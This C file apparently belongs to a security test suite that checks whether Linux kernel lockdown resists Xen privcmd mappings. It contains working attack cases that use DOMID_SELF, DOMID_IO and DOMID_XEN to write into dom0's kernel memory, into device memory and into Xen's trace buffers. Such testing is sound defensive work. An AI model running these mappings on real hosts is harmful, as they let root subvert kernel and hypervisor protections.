// SPDX-License-Identifier: GPL-2.0-only
/*
 * Mappings: privcmd maps frames of other domains for a toolstack. Domain IDs
 * also name dom0 itself, Xen, and the memory of devices, and then a mapping
 * gives root what the kernel keeps from it.
 */
#include "mappings.h"

#include <dirent.h>
#include <sys/mman.h>

#include <xen/grant_table.h>
#include <xen/trace.h>

#include "../privcmd.h"
#include "../hypervisor/trace.h"

static const char *const way_names[] = {
    [MAP_BATCH_V2] = "mmapbatch_v2",
    [MAP_BATCH] = "mmapbatch",
    [MAP_RANGE] = "mmap",
};

/*
 * U-MAP-SELF: map the kernel's memory as if it were a guest's.
 *
 * dom0's own number is refused by Xen, but DOMID_SELF is not.
 */
ATTACK("U-MAP-SELF", "map dom0's own kernel memory and write to it")
{
    static const domid_t domids[] = { 0, DOMID_SELF };
    const uint64_t address = victim(), frame = kernel_frame(address);
    char text[150] = "";

    if ( !frame )
        return cannot_try("no frame for the kernel's variable");

    for ( enum map_way way = 0; way < NR_MAP_WAYS; way++ )
        for ( size_t i = 0; i < ARRAY_SIZE(domids); i++ )
        {
            char *page = map_frame(way, domids[i], frame);
            size_t used = strlen(text);

            if ( !page )
                continue;

            memcpy(page + address % PAGE_SIZE, new_mark(), MARK_SIZE);
            if ( victim_has_mark() )
                snprintf(text + used, sizeof(text) - used, " %s of %#x",
                         way_names[way], domids[i]);
            munmap(page, PAGE_SIZE);
        }

    return effect(*text, "the kernel's version %s%s",
                  *text ? "rewritten by" : "unchanged", text);
}

/* ---- devices ---- */

const struct display *find_display(void)
{
    static const char devices[] = "/sys/bus/pci/devices";
    static struct display display;
    DIR *directory = opendir(devices);
    struct dirent *entry;
    unsigned int bus, device, function;
    unsigned long long start;

    while ( directory && !*display.name && (entry = readdir(directory)) )
    {
        char path[400], line[80];

        snprintf(path, sizeof(path), "%s/%s/class", devices, entry->d_name);
        if ( strncmp(read_line(path, line, sizeof(line)), "0x03", 4) )
            continue;

        snprintf(path, sizeof(path), "%s/%s/resource", devices, entry->d_name);
        if ( sscanf(entry->d_name, "0000:%x:%x.%x", &bus, &device, &function) !=
                 3 ||
             sscanf(read_line(path, line, sizeof(line)), "%llx", &start) != 1 ||
             !start )
            continue;

        snprintf(display.name, sizeof(display.name), "%.12s", entry->d_name);
        display.bus = (uint8_t)bus;
        display.devfn = (uint8_t)(device << 3 | function);
        display.memory = start;
    }

    if ( directory )
        closedir(directory);
    return *display.name ? &display : NULL;
}

static uint64_t poke(volatile uint64_t *where, uint64_t value)
{
    const uint64_t before = *where;

    *where = value;
    value = *where;
    *where = before;

    return value;
}

/*
 * U-MAP-IO: reach a device's memory past the kernel's drivers.
 *
 * The kernel's lockdown takes /dev/mem and PCI resource files away from root,
 * because a device can be made to write anywhere. The display's memory stands
 * for any device here: what is written there by way of DOMID_IO is read back.
 */
ATTACK("U-MAP-IO", "map a device's memory through the I/O domain")
{
    static const uint64_t value = 0x6572657761776572;
    const struct display *display = find_display();
    char text[100] = "";

    if ( !display )
        return cannot_try("no display whose memory could be mapped");

    for ( enum map_way way = 0; way < NR_MAP_WAYS; way++ )
    {
        uint64_t *memory = map_frame(way, DOMID_IO,
                                     display->memory / PAGE_SIZE);

        if ( !memory )
            continue;

        if ( poke(memory, value) == value )
        {
            strcat(text, " ");
            strcat(text, way_names[way]);
        }
        munmap(memory, PAGE_SIZE);
    }

    return effect(*text, "device memory %s%s",
                  *text ? "written and read back by" : "out of reach", text);
}

/* ---- Xen ---- */

/*
 * Xen tells where its trace buffers are; if it does not, any frame shows
 * whether a map works.
 */
uint64_t trace_info_frame(void)
{
    struct xen_sysctl op = { .cmd = XEN_SYSCTL_tbuf_op,
                             .u.tbuf_op = { .cmd = XEN_SYSCTL_TBUFOP_set_size,
                                            .size = 1 } };

    sysctl(&op);
    op.u.tbuf_op.cmd = XEN_SYSCTL_TBUFOP_get_info;
    return sysctl(&op) ? 0 : op.u.tbuf_op.buffer_mfn;
}

/* The page that tells where the buffers are is for reading only. */
uint64_t trace_buffer_frame(uint64_t info_frame)
{
    uint64_t frames[1] = { info_frame }, frame = 0;
    int errors[1];
    struct privcmd_mmapbatch_v2 request = {
        .num = 1, .dom = DOMID_XEN, .arr = frames, .err = errors
    };
    uint32_t *info = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, node_fd(), 0);

    if ( info == MAP_FAILED )
        return 0;

    request.addr = (uintptr_t)info;
    if ( !ioctl(node_fd(), IOCTL_PRIVCMD_MMAPBATCH_V2, &request) && !errors[0] )
        frame = info[((struct t_info *)info)->mfn_offset[0]];
    munmap(info, PAGE_SIZE);

    return frame;
}

/*
 * U-MAP-XEN: write to Xen's memory.
 *
 * Xen shares its trace buffers with a privileged domain, for its tools. What is
 * written through one mapping is read through another, so it has reached Xen's
 * own page.
 */
ATTACK("U-MAP-XEN", "map Xen's memory through the domain that names Xen")
{
    static const uint32_t value = 0x1234;
    const uint64_t info = trace_info_frame();
    const uint64_t frame = info ? trace_buffer_frame(info)
                                : own_frame(buffer(PAGE_SIZE));
    bool reached = false;

    for ( enum map_way way = 0; way < NR_MAP_WAYS && !reached; way++ )
    {
        struct t_buf *writer = map_frame(way, DOMID_XEN, frame);
        struct t_buf *reader = map_frame(way, DOMID_XEN, frame);

        if ( writer && reader )
        {
            writer->cons = value;
            reached = reader->cons == value;
            writer->cons = 0;
        }
    }

    return effect_either(reached, "a trace buffer of Xen's", "changed",
                         "out of reach");
}

bool maps_resource(domid_t domid, uint32_t type, uint32_t id)
{
    void *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED,
                      node_fd(), 0);
    struct privcmd_mmap_resource request = {
        .dom = domid, .num = 1, .type = type, .id = id, .addr = (uintptr_t)page
    };

    if ( ioctl(node_fd(), IOCTL_PRIVCMD_MMAP_RESOURCE, &request) )
        note_node_error(errno);
    return survives(touch, page);
}

/*
 * U-MAP-RES: map dom0's own grant table, to grant itself any frame.
 *
 * Xen maps resources of other domains only, not the caller's, lockdown or not;
 * this shows that it stays so.
 */
ATTACK("U-MAP-RES", "map dom0's own grant table as a resource")
{
    static const domid_t domids[] = { 0, DOMID_SELF, DOMID_XEN, DOMID_IO };
    bool mapped = false;

    for ( size_t i = 0; i < ARRAY_SIZE(domids) && !mapped; i++ )
        mapped = maps_resource(domids[i], XENMEM_resource_grant_table,
                               XENMEM_resource_grant_table_id_shared);

    return effect_either(mapped, "the grant table is", "mapped",
                         "out of reach");
}
